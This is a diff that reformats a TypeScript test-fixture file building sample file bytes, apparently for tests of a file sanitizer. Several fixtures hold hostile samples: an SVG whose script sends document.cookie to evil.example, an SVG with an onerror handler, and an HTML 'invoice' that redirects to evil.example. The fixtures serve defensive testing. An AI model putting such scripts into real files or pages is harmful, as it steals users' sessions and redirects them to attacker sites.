@@ -31,21 +31,43 @@ export function oggOpusBytes(): Uint8Array {
   return new Uint8Array(Buffer.concat([page, head, Buffer.alloc(200)]));
 }
 
-export const pdfBytes = (): Uint8Array => new Uint8Array(Buffer.from(
-  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1'));
+export const pdfBytes = (): Uint8Array =>
+  new Uint8Array(
+    Buffer.from(
+      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
+      'latin1',
+    ),
+  );
 
 /** A 1×1 PNG. */
-export const pngBytes = (): Uint8Array => new Uint8Array(Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64'));
+export const pngBytes = (): Uint8Array =>
+  new Uint8Array(
+    Buffer.from(
+      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+      'base64',
+    ),
+  );
 
-export const svgWithScript = (): Uint8Array => new Uint8Array(Buffer.from(
-  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>\n'));
+export const svgWithScript = (): Uint8Array =>
+  new Uint8Array(
+    Buffer.from(
+      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>\n',
+    ),
+  );
 
-export const svgWithHandler = (): Uint8Array => new Uint8Array(Buffer.from(
-  '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>'));
+export const svgWithHandler = (): Uint8Array =>
+  new Uint8Array(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>'));
 
-export const plainSvg = (): Uint8Array => new Uint8Array(Buffer.from(
-  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#c00"/></svg>'));
+export const plainSvg = (): Uint8Array =>
+  new Uint8Array(
+    Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#c00"/></svg>',
+    ),
+  );
 
-export const htmlBytes = (): Uint8Array => new Uint8Array(Buffer.from(
-  '<!DOCTYPE html>\n<html><body><script>location="https://evil.example"</script>Your invoice</body></html>\n'));
+export const htmlBytes = (): Uint8Array =>
+  new Uint8Array(
+    Buffer.from(
+      '<!DOCTYPE html>\n<html><body><script>location="https://evil.example"</script>Your invoice</body></html>\n',
+    ),
+  );
